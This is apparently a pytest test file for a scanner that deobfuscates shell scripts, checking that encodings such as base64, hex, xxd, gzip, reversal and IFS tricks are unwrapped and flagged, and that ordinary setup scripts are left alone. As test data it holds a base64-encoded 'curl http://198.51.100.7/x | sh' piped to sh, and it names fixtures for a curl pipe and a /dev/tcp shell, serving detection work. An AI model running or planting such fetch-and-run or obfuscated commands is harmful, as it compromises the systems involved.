"""sh/bash layer: each transformation round-trips alone and stacked; spans, techniques and
findings are recorded; ordinary scripts produce nothing."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from inspector.stage import ScanContext, ScanLimits
from inspector.deobfuscate.shell import ShellLayer
from inspector.model import ArtifactType
from tests.deobfuscate.conftest import SHELL_COMMANDS
from tests.deobfuscate.peeling import payload_of, peel
from tests.obfuscation import obfuscators as ob
from tests.obfuscation import shell_frameworks as shf

SH = ArtifactType.SHELL

EXPECTED: dict[Callable[[str, int], str], tuple[tuple[str, ...], str]] = {
    ob.sh_base64_pipe: (("base64",), "deobf.shell.base64_exec"),
    ob.sh_hex_printf: (("printf-escape",), "deobf.shell.escaped_string"),
    ob.sh_ansi_c: (("ansi-c-quoting",), "deobf.shell.escaped_string"),
    ob.sh_xxd: (("xxd-hex",), "deobf.shell.xxd_hex"),
    ob.sh_gzip_base64: (("base64-gzip", "base64-bzip2"), "deobf.shell.compressed"),
    ob.sh_rev: (("rev",), "deobf.shell.reversed"),
    ob.sh_var_splice: (("normalised",), "deobf.shell.variable_splicing"),
    ob.sh_ifs: (("normalised",), "deobf.shell.ifs"),
}


@pytest.mark.parametrize("seed", [0, 1, 2, 3])
@pytest.mark.parametrize("command", SHELL_COMMANDS, ids=["curl-pipe", "dev-tcp", "quotes"])
@pytest.mark.parametrize("transform", list(EXPECTED), ids=lambda f: f.__name__)
def test_each_transformation_round_trips(transform: Callable[[str, int], str], command: str, seed: int) -> None:
    obfuscated = transform(command, seed)
    result = peel(obfuscated, SH)
    assert result.recovered(command), obfuscated
    techniques, finding = EXPECTED[transform]
    assert any(t in result.techniques for t in techniques)
    assert finding in result.finding_ids


STACKS = [
    [ob.sh_ifs, ob.sh_base64_pipe],
    [ob.sh_rev, ob.sh_gzip_base64],
    [ob.sh_var_splice, ob.sh_hex_printf, ob.sh_base64_pipe],
    [ob.sh_ansi_c, ob.sh_xxd],
    [ob.sh_base64_pipe, ob.sh_base64_pipe, ob.sh_rev],
    [ob.sh_hex_printf, ob.sh_var_splice],
    [ob.sh_gzip_base64, ob.sh_ifs],
]


@pytest.mark.parametrize("seed", [0, 1, 2])
@pytest.mark.parametrize("chain", STACKS, ids=lambda c: "+".join(f.__name__[3:] for f in c))
def test_stacked_transformations_round_trip(chain: list[Callable[[str, int], str]], seed: int) -> None:
    command = SHELL_COMMANDS[0]
    obfuscated = ob.stack(command, chain, seed)
    result = peel(obfuscated, SH)
    assert result.recovered(command), obfuscated
    for transform in chain:
        assert EXPECTED[transform][1] in result.finding_ids


def test_decoded_layer_records_span_and_runs_as_shell() -> None:
    script = "#!/bin/sh\necho Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA== | base64 --decode | sh\n"
    out = ShellLayer().analyze(payload_of(script.encode(), SH), ScanContext(ScanLimits()))
    (child,) = out.children
    assert child.data == b"curl http://198.51.100.7/x | sh"
    assert child.origin == "decoded:base64" and child.type_hint == SH
    span = child.layer.span
    assert span.line == 2 and script[span.offset:span.offset + span.length].startswith("Y3Vyb")
    assert out.urls == ["http://198.51.100.7/x"]


def test_base64_that_is_only_decoded_scores_lower_than_one_that_runs() -> None:
    decoded = peel("echo aGVsbG8gd29ybGQ= | base64 -d > /tmp/note.txt", SH)
    assert "deobf.shell.base64_decode" in decoded.finding_ids
    assert "deobf.shell.base64_exec" not in decoded.finding_ids


BENIGN = """#!/bin/bash
set -euo pipefail
export DEBIAN_FRONTEND=noninteractive
VERSION="1.4.2"
apt-get update && apt-get install -y nginx
curl -fsSL https://packages.microsoft.com/keys/microsoft.asc | gpg --dearmor > /usr/share/keyrings/ms.gpg
mkfs.ext4 /dev/sdc1 && mount /dev/sdc1 /data
echo "installed $VERSION" >> /var/log/setup.log
systemctl enable --now nginx
"""


def test_ordinary_setup_script_is_left_alone() -> None:
    result = peel(BENIGN, SH)
    assert result.layers[1:] == []
    assert result.findings == []


FRAMEWORK_STYLE = {
    shf.sh_char_array: "deobf.shell.char_array",
    shf.sh_glob_program: "deobf.shell.glob_path",
    shf.sh_brace_command: "deobf.shell.brace_command",
}


@pytest.mark.parametrize("seed", [0, 1, 2, 3])
@pytest.mark.parametrize("command", SHELL_COMMANDS[:2], ids=["curl-pipe", "dev-tcp"])
@pytest.mark.parametrize("transform", list(FRAMEWORK_STYLE), ids=lambda f: f.__name__)
def test_framework_style_words_are_rebuilt_in_the_normalised_layer(
        transform: Callable[[str, int], str], command: str, seed: int) -> None:
    obfuscated = transform(command, seed)
    result = peel(obfuscated, SH)
    program, _, rest = command.partition(" ")
    assert any(program in t and rest.split(" ")[0] in t for t in result.texts[1:]), obfuscated
    assert FRAMEWORK_STYLE[transform] in result.finding_ids


def test_one_array_lookup_or_an_unknown_glob_is_not_obfuscation() -> None:
    assert "deobf.shell.char_array" not in peel("a=(x y); echo ${a[1]}", SH).finding_ids
    assert "deobf.shell.glob_path" not in peel("rm -f /var/log/app/*.log /tmp/??zz", SH).finding_ids
    assert "deobf.shell.brace_command" not in peel("mkdir -p /srv/{a,b}; cp x{,.bak}", SH).finding_ids
